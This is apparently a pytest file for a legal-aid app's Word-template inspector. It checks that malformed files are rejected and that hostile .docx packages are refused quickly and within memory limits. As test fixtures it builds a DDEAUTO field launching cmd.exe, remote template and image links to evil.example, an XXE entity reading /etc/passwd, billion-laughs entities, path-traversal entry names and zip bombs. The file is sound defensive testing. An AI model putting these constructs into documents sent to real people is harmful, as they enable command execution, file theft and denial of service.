"""Whatever someone sends as a Word file gets in, or one sentence in time and little memory."""

from __future__ import annotations

import contextlib
import io
import os
import random
import re
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable

import pytest

from legalaid_desktop.documents.package.inspect import inspect
from legalaid_desktop.documents.worker import Worker
from legalaid_desktop.errors import TemplateHostile, TemplateUnreadable, UserError
from tests.documents.templates import (
    a_docx,
    a_field,
    a_zip,
    add_xml,
    edited,
    parts_of,
    with_part,
    with_relationship,
)

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD = "word/document.xml"
PLAIN = a_docx("Texto")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096


def as_type(kind: str) -> bytes:
    return edited(PLAIN, "[Content_Types].xml", MAIN, kind)


def in_body(xml: str) -> bytes:
    return a_docx("a", change=lambda it: add_xml(it, xml))


def encrypted() -> bytes:
    """Set the password bit of every entry, as a zip with a password has it."""
    content = bytearray(PLAIN)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def overlapping() -> bytes:
    """Let two entries of the directory share the same bytes."""
    content = bytearray(a_zip([*parts_of(PLAIN).items(), ("word/zz1.xml", b"<a/>" * 99)]))
    first = content.find(b"PK\x01\x02")
    second = content.find(b"PK\x01\x02", first + 4)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def bomb(size: int) -> bytes:
    return with_part(PLAIN, "word/media/a.xml", b"<a>" + b" " * size + b"</a>")


def lying_bomb() -> bytes:
    """A bomb whose directory says it is small."""
    content = bytearray(bomb(120 * 2**20))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/media/a.xml"))
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


UNREADABLE: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "two letters": lambda: b"PK",
    "text": lambda: "Hola, niña".encode(),
    "html": lambda: b"<html><body>Hola</body></html>",
    "rtf": lambda: rb"{\rtf1 hola}",
    "old doc": lambda: OLE,
    "an empty zip": lambda: a_zip({}),
    "some zip": lambda: a_zip({"a.txt": b"hola"}),
    "truncated": lambda: PLAIN[: len(PLAIN) // 2],
    "without its end": lambda: PLAIN[:-30],
    "without a body": lambda: a_zip(
        {name: part for name, part in parts_of(PLAIN).items() if name != WORD}
    ),
    "a spreadsheet": lambda: as_type(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    ),
    "a dotx": lambda: as_type(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    ),
    "with a password": encrypted,
    "broken xml": lambda: with_part(PLAIN, WORD, b"<w:document><w:body>"),
    "binary in place of xml": lambda: with_part(PLAIN, WORD, bytes(range(256)) * 9),
    "bytes swapped": lambda: PLAIN.replace(b"\x50\x4b\x01\x02", b"\x50\x4b\x09\x09"),
    "strict": lambda: edited(
        PLAIN,
        WORD,
        "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        "http://purl.oclc.org/ooxml/wordprocessingml/main",
    ),
}

HOSTILE: dict[str, Callable[[], bytes]] = {
    "docm": lambda: as_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "dotm": lambda: as_type("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
    "macros": lambda: with_part(PLAIN, "word/vbaProject.bin", OLE),
    "ole": lambda: with_part(PLAIN, "word/embeddings/oleObject1.bin", OLE),
    "ole relationship": lambda: with_relationship(PLAIN, "oleObject", "x.bin", external=False),
    "activex": lambda: with_part(PLAIN, "word/activeX/activeX1.xml", b"<a/>"),
    "custom ui": lambda: with_part(PLAIN, "customUI/customUI.xml", b"<a/>"),
    "altchunk": lambda: in_body('<w:altChunk r:id="rId1"></w:altChunk>'),
    "altchunk relationship": lambda: with_relationship(
        PLAIN, "aFChunk", "a.html", external=False
    ),
    "attached template": lambda: with_relationship(
        PLAIN, "attachedTemplate", "http://evil.example/a.dotm"
    ),
    "linked image": lambda: with_relationship(PLAIN, "image", "http://evil.example/pixel.png"),
    "linked frame": lambda: with_relationship(PLAIN, "frame", "http://evil.example/"),
    "file link": lambda: with_relationship(PLAIN, "hyperlink", "file:///etc/passwd"),
    "share link": lambda: with_relationship(PLAIN, "hyperlink", r"\\evil.example\share"),
    "script link": lambda: with_relationship(PLAIN, "hyperlink", "javascript:alert(1)"),
    "header link": lambda: with_relationship(
        a_docx("a", header="b"), "image", "http://evil.example/x", of="header1"
    ),
    "dde": lambda: in_body(a_field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"', "x")),
    "dde in pieces": lambda: in_body(
        a_field("DDE x", "x").replace(
            " DDE x ",
            ' DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">E x ',
        )
    ),
    "includetext": lambda: in_body(a_field('INCLUDETEXT "file:///etc/passwd"', "x")),
    "includepicture": lambda: in_body('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://a/b"/></w:p>'),
    "doctype": lambda: with_part(
        PLAIN,
        "word/footnotes.xml",
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    ),
    "doctype in utf-16": lambda: with_part(
        PLAIN, "word/footnotes.xml", '<?xml version="1.0"?><!DOCTYPE a><a/>'.encode("utf-16")
    ),
    "billion laughs": lambda: with_part(
        PLAIN,
        "word/footnotes.xml",
        b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>',
    ),
    "path upwards": lambda: with_part(PLAIN, "word/../../evil.xml", b"<a/>"),
    "absolute path": lambda: with_part(PLAIN, "/etc/evil.xml", b"<a/>"),
    "windows path": lambda: with_part(PLAIN, "C:\\evil.xml", b"<a/>"),
    "twice the same": lambda: a_zip([*parts_of(PLAIN).items(), ("WORD/Document.xml", b"<a/>")]),
    "too many parts": lambda: a_zip(
        parts_of(PLAIN) | {f"word/x{n}.bin": b"" for n in range(2100)}
    ),
    "too large": lambda: with_part(PLAIN, "word/media/a.png", os.urandom(11 * 2**20)),
    "zip bomb": lambda: bomb(90 * 2**20),
    "larger zip bomb": lambda: bomb(300 * 2**20),
    "lying zip bomb": lying_bomb,
    "deep xml": lambda: with_part(PLAIN, "word/footnotes.xml", b"<a>" * 9000 + b"</a>" * 9000),
    "elements without number": lambda: with_part(
        PLAIN, "word/footnotes.xml", b"<a>" + b"<b/><c/><d/>" * 900_000 + b"</a>"
    ),
    "overlapping": overlapping,
}  # fmt: skip


@pytest.mark.parametrize("make", UNREADABLE.values(), ids=UNREADABLE)
def test_what_is_not_a_word_file_is_unreadable(make: Callable[[], bytes]) -> None:
    with pytest.raises(TemplateUnreadable):
        inspect(make())


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE)
def test_what_can_do_harm_is_refused_in_time(make: Callable[[], bytes]) -> None:
    content = make()
    started = time.monotonic()
    with pytest.raises(UserError) as refused:
        inspect(content)
    assert time.monotonic() - started < 5
    assert isinstance(refused.value, TemplateHostile | TemplateUnreadable)
    assert "{" not in refused.value.in_language("es") + refused.value.in_language("en")


@pytest.mark.parametrize("name", sorted(HOSTILE.keys() - {"too large"}))
def test_what_can_do_harm_is_refused_as_a_document_too(name: str, worker: Worker) -> None:
    with pytest.raises((TemplateHostile, TemplateUnreadable)):
        worker.convert(HOSTILE[name]())


@pytest.mark.parametrize(
    "document",
    [
        PLAIN,
        with_relationship(PLAIN, "hyperlink", "https://www.acnur.org/mexico"),
        with_relationship(PLAIN, "hyperlink", "mailto:defensa@example.org"),
        in_body(a_field("PAGE", "1")),
        in_body(a_field('HYPERLINK "https://example.org"', "LINK a la página, DDE dicho en texto")),
        a_docx("La palabra DOCTYPE <!DOCTYPE html> en el texto, y macros vbaProject.bin"),
    ],
    ids=["plain", "link", "mail", "page number", "field with words", "words"],
)
def test_honest_documents_get_in(document: bytes) -> None:
    assert WORD in inspect(document)


def test_a_damaged_file_never_ends_in_anything_but_a_sentence() -> None:
    chance = random.Random(20261124)  # noqa: S311 - the same damage every time
    whole = a_docx("Hola {{ x }}", header="b", table=[["a", "b"]])
    for _ in range(300):
        content = bytearray(whole)
        for _ in range(chance.randint(1, 12)):
            content[chance.randrange(len(content))] = chance.randrange(256)
        if chance.random() < 0.2:
            del content[chance.randrange(len(content)) :]
        with contextlib.suppress(TemplateUnreadable, TemplateHostile):
            inspect(bytes(content))


@pytest.mark.skipif(sys.platform != "linux", reason="memory is measured as Linux does")
def test_a_bomb_takes_little_memory() -> None:
    code = (
        "import sys\n"
        "from legalaid_desktop.documents.package.inspect import inspect\n"
        "from legalaid_desktop.errors import TemplateHostile\n"
        "content = sys.stdin.buffer.read()\n"
        "try: inspect(content)\n"
        "except TemplateHostile: print(open('/proc/self/status').read())\n"
    )
    for content in (bomb(300 * 2**20), HOSTILE["elements without number"]()):
        done = subprocess.run(
            [sys.executable, "-c", code], input=content, capture_output=True, check=True
        )
        (peak,) = re.findall(rb"VmHWM:\s+(\d+) kB", done.stdout)
        assert int(peak) < 250_000


def test_the_parts_are_given_back_as_they_are() -> None:
    with zipfile.ZipFile(io.BytesIO(PLAIN)) as package:
        assert dict(inspect(PLAIN)) == {name: package.read(name) for name in package.namelist()}
